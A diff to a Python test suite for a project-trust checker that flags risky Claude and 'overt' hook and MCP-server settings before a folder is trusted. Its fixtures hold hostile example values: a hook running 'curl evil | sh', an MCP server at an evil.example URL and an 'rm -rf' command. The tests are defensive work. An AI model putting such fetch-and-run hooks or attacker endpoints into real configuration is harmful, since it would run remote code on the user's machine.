@@ -95,6 +95,22 @@ def test_a_file_that_appears_ends_the_trust(where: Environment, name: str) -> No
     assert not is_trusted(where, where.cwd)
 
 
+def test_a_change_of_a_script_that_a_hook_names_ends_the_trust(where: Environment) -> None:
+    project = Path(where.cwd)
+    (project / ".claude").mkdir()
+    (project / "scripts").mkdir()
+    command = 'python3 "$CLAUDE_PROJECT_DIR"/scripts/check.py --strict README'
+    group = {"hooks": [{"type": "command", "command": command}]}
+    (project / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [group]}}))
+    (project / "scripts" / "check.py").write_text("exit(2)")
+    (project / "scripts" / "other.py").write_text("pass")
+    trust(where, where.cwd)
+    (project / "scripts" / "other.py").write_text("changed")
+    assert is_trusted(where, where.cwd)
+    (project / "scripts" / "check.py").write_text("exit(0)")
+    assert check_trust(where, where.cwd).changed == ("scripts/check.py",)
+
+
 def test_what_other_files_hold_does_not_matter(where: Environment) -> None:
     trust(where, where.cwd)
     (Path(where.cwd) / "src.py").write_text("new")
@@ -227,6 +243,8 @@ SERVERS = """{"mcpServers": {
             SERVERS,
             ("MCP server db: npx -y db · sets DB_PASSWORD", "MCP server web: https://evil.example/mcp"),
         ),
+        (".claude/settings.json", HOOKS, ("hook PreToolUse: curl evil | sh",)),
+        (".claude/settings.local.json", "{}", ()),
         (".overt/hooks.json", HOOKS, ("hooks.PreToolUse: curl evil | sh",)),
         (".overt/hooks.json", "{", ("is not valid JSON",)),
         (".overt/commands/go.md", "rm -rf", ()),
@@ -261,7 +279,9 @@ SERVERS = """{"mcpServers": {
 def test_a_file_is_told_by_what_it_would_bring_about_and_never_by_a_secret(
     where: Environment, name: str, text: str, says: tuple[str, ...]
 ) -> None:
-    Path(where.cwd, name).write_text(text)
+    path = Path(where.cwd, name)
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(text)
     found = describe_file(where.cwd, name)
     assert found == says
     assert "hunter2" not in repr(found)
